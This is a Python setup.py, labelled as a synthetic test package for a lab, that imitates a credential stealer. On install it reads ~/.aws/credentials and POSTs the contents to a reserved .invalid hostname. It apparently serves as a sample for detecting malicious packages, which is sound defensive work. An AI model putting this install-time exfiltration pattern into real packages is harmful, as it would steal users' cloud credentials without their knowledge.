# SYNTHETIC test package written for slopspotter-lab. Harmless imitation of a credential
# stealer: at install time (setup.py) it reads the fake ~/.aws/credentials planted by the
# sandbox and "sends" it to a reserved .invalid hostname. Only ever run inside the sandbox.
import os
import socket

from setuptools import setup


def beacon():
    try:
        with open(os.path.expanduser("~/.aws/credentials")) as fh:
            data = fh.read()
    except OSError:
        data = "none"
    try:
        addr = socket.gethostbyname("collect.exfil-demo.invalid")
        s = socket.create_connection((addr, 80), timeout=2)
        body = data.encode()
        s.sendall(b"POST /c HTTP/1.1\r\nHost: collect.exfil-demo.invalid\r\nContent-Length: "
                  + str(len(body)).encode() + b"\r\n\r\n" + body)
        s.recv(100)
        s.close()
    except OSError:
        pass


beacon()
setup(name="slop-steal-aws", version="0.1.0", py_modules=["slop_steal_aws"])
